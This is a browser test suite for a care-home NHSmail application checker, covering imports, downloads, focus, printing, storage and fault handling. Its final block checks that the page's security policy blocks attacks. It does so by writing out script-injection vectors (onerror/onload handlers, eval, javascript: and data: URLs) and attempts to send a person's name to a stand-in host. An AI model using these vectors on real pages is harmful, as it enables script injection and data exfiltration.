// What browsers do differently: files in and out, the keyboard's place, paper, and what is said when something does
// not come. Run in Chromium, Firefox and WebKit alike; the faults are the server's, so that each browser meets them.
import { KEY, READY, keepBefore, open } from './applications.js';
import { mouse } from './hands.js';
import { STAFF, text, workbook } from './lists.js';
import { READY_VERDICT } from './journeys.js';
import { TITLES, show } from './screens.js';
import { BROWSER, download, expect, expectScreen, heading, running, test } from './site.js';

const IMPORT = '#/people/import';

/** Where the site is served with one thing wrong, for this test alone. */
const withFault = (fault) => `/faults/${fault}/${Math.random().toString(36).slice(2)}/`;

async function choose(site, name, bytes) {
  await site.getByLabel('Or choose a file, or drop it here').setInputFiles({ name, mimeType: '', buffer: Buffer.from(bytes) });
}

for (const [name, bytes] of [
  ['staff.csv', text(STAFF)],
  ['staff.xlsx', workbook(STAFF)],
]) {
  test(`a list is brought in and given back: ${name}`, async ({ site }) => {
    await open(site, IMPORT);
    await choose(site, name, bytes);
    await expect(site.getByText('4 people were found.')).toBeVisible();
    await expect(site.getByText('7700900123 → 07700 900123: the spreadsheet dropped the 0.')).toBeVisible();
    const csv = await download(site, () => mouse(site).press('Download it as CSV'));
    expect(csv.name).toBe('your-list-checked.csv');
    expect(csv.text).toContain('the spreadsheet dropped the 0.');
    const book = await download(site, () => mouse(site).press('Download the list with the results'));
    expect([book.name, book.text.slice(0, 2)]).toEqual(['your-list-checked.xlsx', 'PK']);
    await mouse(site).press('Add 3 people');
    await expectScreen(site, TITLES['#/people']);
    await expect(site.getByRole('heading', { name: "Łucja O'Brien" })).toBeVisible();
  });
}

test('rows that are pasted are read', async ({ site }) => {
  await open(site, IMPORT);
  await site.getByLabel('Paste rows from a spreadsheet').fill(text(STAFF, '\t'));
  await mouse(site).press('Read what I pasted');
  await expect(site.getByText('4 people were found.')).toBeVisible();
});

test('every download arrives whole', async ({ site }) => {
  test.slow();
  const hand = mouse(site);
  await open(site, '#/result', READY);
  await expect(heading(site)).toContainText(READY_VERDICT);
  for (const [button, name, start, end] of [
    ['Download the checklist as a PDF', 'nhsmail-checklist-oak-house-care-home.pdf', '%PDF-', '%%EOF'],
    ['Download the checklist as a web page', 'nhsmail-checklist-oak-house-care-home.html', '<!', '</html>'],
    ['Download the account list for Excel', 'nhsmail-accounts-oak-house-care-home.xlsx', 'PK', ''],
    ['Download the account list as CSV', 'nhsmail-accounts-oak-house-care-home.csv', '', 'Zoë'],
    ['Download reminders for your calendar', 'nhsmail-reminders-oak-house-care-home.ics', 'BEGIN:VCALENDAR', 'END:VCALENDAR'],
  ]) {
    const file = await download(site, () => hand.press(button));
    expect(file.name).toBe(name);
    expect(file.text.replace(/^\u{feff}/u, '').startsWith(start), name).toBe(true);
    expect(file.text, name).toContain(end);
  }
  await show(site, '#/saved');
  const { name, text } = await download(site, () => hand.press('Save to a file'));
  expect(name).toBe('nhsmail-application-oak-house-care-home.json');
  expect(JSON.parse(text)).toEqual(READY);
  await show(site, IMPORT);
  const form = await download(site, () => hand.press('Download a blank form for Excel'));
  expect(form.text.slice(0, 2)).toBe('PK');
});

test('the keyboard’s place is where it should be, after every kind of step', async ({ site }) => {
  const hand = mouse(site);
  await open(site, '#/people/1', READY);
  await hand.type('Mobile number', '01522 1');
  await expect(site.getByLabel('Mobile number')).toBeFocused();
  await hand.press('Save and continue');
  await expect(site.locator('#error-summary')).toBeFocused();
  await site.locator('#error-summary a').first().click();
  await expect(site.getByLabel('Mobile number')).toBeFocused();
  await hand.type('Mobile number', '07700 900123');
  await site.keyboard.press('Enter');
  await expectScreen(site, TITLES['#/people']);
  await site.goBack();
  await expect(heading(site)).toBeFocused();
  await site.evaluate(() => { document.querySelector('.nhsuk-skip-link').click(); });
  await expect(site.locator('#main')).toBeFocused();
});

test('the form prints, and its button prints it', async ({ site }) => {
  await open(site, '#/form');
  await site.evaluate(() => { window.print = () => { window.isPrinted = true; }; });
  await mouse(site).press('Print this form');
  await site.waitForFunction(() => window.isPrinted);
  await expect(site.getByText('First name').first()).toBeVisible();
  if (BROWSER === 'webkit') return; // Its driver has no paper.
  const paper = await site.pdf();
  expect(paper.subarray(0, 5).toString()).toBe('%PDF-');
  expect(paper.length).toBeGreaterThan(5000);
});

test('answers are kept on the device, found again, and gone when they are deleted', async ({ site }) => {
  const hand = mouse(site);
  await open(site, '#/saved');
  await hand.tick('Keep my answers on this device');
  await show(site, '#/site');
  await hand.type('Name of the home or branch', 'Elm Court');
  await site.waitForFunction((key) => localStorage.getItem(key)?.includes('Elm Court'), KEY);
  await site.reload();
  await running(site);
  await expect(site.getByLabel('Name of the home or branch')).toHaveValue('Elm Court');
  await show(site, '#/saved');
  await hand.press('Delete everything');
  await hand.press('Yes, delete everything');
  await expect.poll(() => site.evaluate(() => localStorage.length)).toBe(0);
});

test.describe('when something is wrong', () => {
  test.use({ expectedTrouble: [/./] });

  for (const fault of ['app-missing', 'script-missing', 'app-cut']) {
    test(`the page says that the checker did not load, and loading it again works: ${fault}`, async ({ site }) => {
      await site.goto(`${withFault(fault)}#/tasks`);
      await expect(site.locator('#failed')).toBeVisible();
      await expect(site.locator('#failed')).toContainText('The checker did not load');
      await expect(site.locator('#loading')).toBeHidden();
      await mouse(site).follow('load this page again');
      await running(site);
      await expect(site.locator('#failed')).toBeHidden();
      await expect(site.getByRole('link', { name: 'Can you apply?' })).toBeVisible();
    });
  }

  for (const fault of ['app-silent', 'script-silent']) {
    test(`a checker that never comes is said to load, at once: ${fault}`, async ({ site }) => {
      test.skip(BROWSER === 'webkit' && fault === 'script-silent', 'its driver waits until every script has come');
      await site.goto(`${withFault(fault)}#/tasks`, { waitUntil: 'commit' });
      await expect(site.getByText('Loading the checker')).toBeVisible({ timeout: 3000 });
      await expect(site.locator('#loading-help')).toBeHidden();
    });
  }

  test('a style sheet that never comes leaves one screen at a time to read', async ({ site }) => {
    test.skip(BROWSER === 'webkit', 'its driver waits until every style sheet has come');
    test.skip(BROWSER === 'firefox', 'it waits for a style sheet even once its link is gone');
    await site.goto(withFault('styles-silent'), { waitUntil: 'commit' });
    await expect(site.locator('html')).toHaveAttribute('data-stalled', '', { timeout: 8000 });
    await expect(site.getByRole('heading', { name: 'Before you start' })).toBeVisible();
    await expect(site.getByRole('heading', { name: 'See for yourself' })).toBeHidden();
    await running(site);
    await show(site, '#/tasks');
    await expect(site.getByRole('link', { name: 'Can you apply?' })).toBeVisible();
    await expect(site.getByRole('heading', { name: 'Before you start' })).toBeHidden();
  });

  for (const [fault, sentence] of [
    ['reader-cut', 'The part of this page that opens lists did not load.'],
    ['reader-killed', 'This list could not be read.'],
  ]) {
    test(`a list is refused in a sentence, and the next try works: ${fault}`, async ({ site }) => {
      await site.goto(`${withFault(fault)}${IMPORT}`);
      await running(site);
      await choose(site, 'staff.csv', text(STAFF));
      await expect(site.getByText(sentence)).toBeVisible();
      await expect(site.locator('#status')).toBeFocused();
      await site.evaluate(() => fetch('./mend'));
      await choose(site, 'staff.csv', text(STAFF));
      await expect(site.getByText('4 people were found.')).toBeVisible();
    });
  }

  test('a new version in the place of the one that is open is said, and what to do', async ({ site }) => {
    const sentence = 'There is a new version of this page. Save your answers to a file, then load this page again.';
    await keepBefore(site, READY);
    await site.goto(`${withFault('new-version')}${IMPORT}`);
    await running(site);
    await choose(site, 'staff.csv', text(STAFF));
    await expect(site.getByText(sentence)).toBeVisible();
    await show(site, '#/result');
    await expect(site.getByText(sentence)).toBeVisible();
    await show(site, '#/saved');
    const save = await download(site, () => mouse(site).press('Save to a file'));
    expect(JSON.parse(save.text)).toEqual(READY);
  });

  test('a file that cannot be made is said in a sentence, and what the page makes itself still comes', async ({ site }) => {
    await keepBefore(site, READY);
    await site.goto(`${withFault('writer-missing')}#/result`);
    await running(site);
    await expect(site.getByText('The part of this page that makes files did not load.')).toBeVisible();
    const page = await download(site, () => mouse(site).press('Download the checklist as a web page'));
    expect(page.text).toContain('Zoë');
    await site.evaluate(() => fetch('./mend'));
    const pdf = await download(site, () => mouse(site).press('Download the checklist as a PDF'));
    expect(pdf.text.slice(0, 5)).toBe('%PDF-');
  });

  test('a clipboard that refuses is said, and nothing is lost', async ({ site }) => {
    await open(site, '#/portal', READY);
    await site.evaluate(() => { navigator.clipboard.writeText = () => Promise.reject(new Error('refused')); });
    await mouse(site).press('Copy CQC Location ID of Your site');
    await expect(site.getByText('Select and copy it yourself').first()).toBeVisible();
    await show(site, '#/people');
    await expect(site.getByRole('heading', { name: 'Anna Smith' })).toBeVisible();
  });

  test('a fault in the checker is said, and what was entered can be saved', async ({ site }) => {
    await open(site, '#/people/1', READY);
    await site.evaluate(() => { dispatchEvent(new Event('trap')); });
    await expect(site.getByRole('heading', { name: 'Something went wrong in the checker' })).toBeFocused();
    const { text } = await download(site, () => mouse(site).follow('Save what you entered to a file'));
    expect(JSON.parse(text)).toEqual(READY);
  });
});

test.describe('what the policy of the page refuses', () => {
  test.use({ expectedTrouble: [/./] });

  test('everything that could take something out, or bring something in to run', async ({ site }) => {
    await open(site, '#/people', READY);
    const outcomes = await site.evaluate(async () => {
      const elsewhere = 'http://localhost:9/?name=Anna';
      const script = '(window.intruder = true)';
      const put = (name, properties) => {
        const made = Object.assign(document.createElement(name), properties);
        document.body.append(made);
        return made;
      };
      const wait = (milliseconds) => new Promise((done) => { setTimeout(done, milliseconds); });
      const loads = (name, properties) => new Promise((done) => {
        put(name, { ...properties, onload: () => done('done'), onerror: () => done('refused') });
      });
      const listens = (target, success) => new Promise((done) => {
        target[success] = () => done('done');
        target.onerror = () => done('refused');
      });
      const attempts = {
        'inline script': () => put('script', { textContent: script }),
        'inline handler': () => put('div', { innerHTML: `<img src="x:" onerror="${script}"><svg onload="${script}"></svg>` }),
        eval: () => (0, eval)(script),
        Function: () => new Function(script)(),
        'setTimeout of text': () => setTimeout(script, 0),
        'javascript: link': () => put('a', { href: `javascript:${script}` }).click(),
        'inline frame': () => put('iframe', { srcdoc: '<script>parent.intruder = true</script>' }),
        'data: script': () => loads('script', { src: `data:text/javascript,${script}` }),
        'script from elsewhere': () => loads('script', { src: elsewhere }),
        'remote image': () => loads('img', { src: elsewhere }),
        'remote style': () => loads('link', { rel: 'stylesheet', href: elsewhere }),
        fetch: () => fetch(elsewhere, { mode: 'no-cors' }).then(() => 'done'),
        beacon: () => (navigator.sendBeacon(elsewhere, 'Anna') ? 'sent' : 'refused'),
        request: () => {
          const request = new XMLHttpRequest();
          request.open('GET', elsewhere);
          request.send();
          return listens(request, 'onload');
        },
        socket: () => listens(new WebSocket('ws://localhost:9/'), 'onopen'),
        'blob worker': () => listens(new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))), 'onmessage'),
        base: () => (put('base', { href: elsewhere }) && document.baseURI.startsWith('http://localhost') ? 'done' : 'refused'),
        'form post': () => {
          const form = put('form', { action: elsewhere, method: 'post' });
          form.append(Object.assign(document.createElement('input'), { name: 'name', value: 'Anna' }));
          form.submit();
          return wait(300).then(() => 'refused'); // Or the page is gone, and this test with it.
        },
      };
      const outcomes = {};
      for (const [name, attempt] of Object.entries(attempts)) {
        let outcome;
        try {
          outcome = await Promise.race([attempt(), wait(2000).then(() => 'nothing')]);
        } catch {
          outcome = 'refused';
        }
        await wait(50);
        // What only runs, tells by what it leaves.
        outcomes[name] = typeof outcome === 'string' && !window.intruder ? outcome : window.intruder ? 'done' : 'refused';
        delete window.intruder;
      }
      return outcomes;
    });
    // Browsers say of a beacon that it is sent, and refuse it afterwards: the policy's own report tells.
    const { beacon, ...others } = outcomes;
    expect(['sent', 'refused']).toContain(beacon);
    expect(Object.entries(others).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
    // A link to text that would run in the page's place goes nowhere.
    await site.evaluate(() => {
      const link = Object.assign(document.createElement('a'), { href: 'data:text/html,<script>1</script>' });
      document.body.append(link);
      link.click();
    });
    await site.waitForTimeout(300);
    expect(await site.evaluate(() => location.protocol)).toBe('http:');
    await show(site, '#/tasks');
    await expect.poll(() => site.evaluate(() => document.title)).toBe(`${TITLES['#/tasks']} – Caremail checker`);
  });
});
